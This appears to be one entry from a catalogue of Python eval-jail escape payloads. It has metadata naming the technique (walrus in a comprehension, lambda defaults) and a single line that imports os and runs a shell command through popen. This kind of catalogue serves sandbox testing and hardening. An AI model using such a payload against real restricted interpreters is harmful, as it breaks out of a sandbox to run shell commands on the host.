# escape: 132
# technique: one expression: walrus in a comprehension, generator scope, lambda defaults
# family: syntax
# goal: exec
# first-seen: CTF eval jails
[print('ESCAPED:walrus') for _ in [0] if (o := __import__('os')) and (lambda p=o.popen: p('echo w').read())() == 'w\n']
